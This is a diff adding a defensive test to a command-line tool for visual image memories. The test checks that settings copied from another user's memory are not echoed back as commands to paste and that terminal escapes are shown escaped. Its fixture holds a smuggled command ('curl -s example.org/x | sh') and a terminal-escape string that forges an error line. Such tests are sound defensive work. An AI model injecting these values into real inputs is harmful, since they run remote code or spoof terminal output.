@@ -191,3 +191,23 @@ def test_what_vmem_copy_featurizer_leaves_out_is_said_one_line_a_point(tmp_path,
         f"left out {bad} ({CLASSES[0]}) {tmp_path}/photos/{CLASSES[0]}/broken\\nError: forged.jpg: not a recognised "
         "image format (JPEG, PNG, WebP, GIF, BMP, TIFF, ICO or AVIF)"])
     assert "\x1b" not in result.stderr
+
+
+def test_the_notes_of_a_memory_handed_over_offer_no_command_its_settings_wrote(tmp_path, photos):
+    # Its vmem.json is its sender's: the pruning options become a command to paste only as vmem prune writes them,
+    # and a tuned rule holding a newline and a terminal's escape is shown escaped
+    with VisualMemory.open(tmp_path / "lite0", featurizer="efficientnet-lite0", create=True, reranker=None) as mem:
+        mem.build(photos[:2])
+        mem.store.set_payload_of_existing([mem.point_id_of_source(photos[0].source)], {"reliability": 0.5})
+        with mem.store.meta_edit() as meta:
+            meta.settings["pruning"] = {"mode": "soft; curl -s example.org/x | sh;", "k": 5}
+            meta.settings["vote"] = {"rule": "rank\x1b]0;owned\x07\nError: forged", "k": 7}
+    result = CliRunner().invoke(app, ["copy", "--memory", tmp_path / "lite0", "--to-memory", tmp_path / "lite1",
+                                      "--featurizer", "efficientnet-lite1"])
+    assert result.exit_code == 0, result.output
+    notes = [line for line in re.split(r"[\r\n]", result.stderr) if line.startswith("note:")]
+    assert notes == [
+        "note: the vote settings tuned for efficientnet-lite0 (rank\\x1b]0;owned\\x07\\nError: forged, k=7) were not "
+        "carried: a new encoder's similarities differ; tune the new memory (vmem tune)",
+        "note: the pruning marks of 1 point were dropped: they judged efficientnet-lite0's neighbours; to prune the "
+        "new memory, run `vmem prune` on it"]
